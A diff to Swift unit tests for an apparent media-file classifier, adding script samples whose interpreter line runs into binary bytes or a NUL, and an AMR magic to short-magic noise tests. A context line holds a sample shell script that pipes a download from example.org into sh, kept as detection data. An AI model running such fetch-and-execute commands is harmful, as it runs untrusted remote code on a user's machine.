@@ -52,7 +52,7 @@ struct NeverMediaTests {
 
     /// A magic of two or three bytes alone is no verdict: one encrypted HLS segment in 65,536
     /// begins with `MZ`, and as many with gzip's first two bytes.
-    @Test(arguments: [Array("MZ".utf8), [0x1F, 0x8B], Array("BZh9".utf8), Array("#!".utf8), Array("#!/".utf8),
+    @Test(arguments: [Array("MZ".utf8), [0x1F, 0x8B], Array("BZh9".utf8), Array("#!".utf8), Array("#!/".utf8), Array("#!AMR\n".utf8),
                       Array("PK".utf8), [0xCA, 0xFE]])
     func shortMagicsInNoiseAreKept(_ start: [UInt8]) {
         let noise = start + TestData.bytes(count: 600, seed: 11)
@@ -145,6 +145,11 @@ enum NonMediaSamples {
                 + [UInt8](repeating: 0, count: 56), kind: .launcher),
             Sample(name: "shell script", bytes: Array("#!/bin/sh\ncurl -s https://example.org/x | sh\n".utf8), kind: .script),
             Sample(name: "script with a blank before its interpreter", bytes: Array("#! /usr/bin/env python3\nprint('hi')\n".utf8), kind: .script),
+            // The kernel runs these too: it reads the interpreter up to a blank or a NUL.
+            Sample(name: "script whose first line runs into binary bytes", bytes: Array("#!/bin/sh ".utf8)
+                + (0..<600).map { UInt8(1 + $0 % 8) }, kind: .script),
+            Sample(name: "script with a NUL after its interpreter", bytes: Array("#! /bin/bash".utf8) + [0, 0, 0x0A]
+                + TestData.bytes(count: 600, seed: 12), kind: .script),
             Sample(name: "desktop launcher", bytes: Array("""
                 [Desktop Entry]
                 Type=Application
